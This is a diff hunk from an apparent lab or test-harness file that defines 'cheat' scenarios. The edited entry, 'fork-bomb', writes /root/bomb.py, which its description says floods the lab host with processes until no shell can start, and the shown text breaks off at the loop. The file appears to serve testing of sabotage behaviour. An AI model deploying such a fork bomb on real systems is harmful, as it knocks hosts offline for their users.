@@ -6,7 +6,7 @@ const server = `python3 -c 'import http.server as s; s.HTTPServer(("0.0.0.0", 80
 export const forkBomb: Cheat = {
   name: 'fork-bomb',
   what: 'a right build, and as many processes as the lab host may have: no shell can be started there any more',
-  script: `${rightBuild.replace('python3 -m http.server --bind 0.0.0.0 80', server)}
+  script: `${rightBuild.replace('python3 -m http.server 80 --bind 0.0.0.0 --directory /srv/ct1', server)}
 cat >/root/bomb.py <<'PYTHON'
 import os, time
 while True:
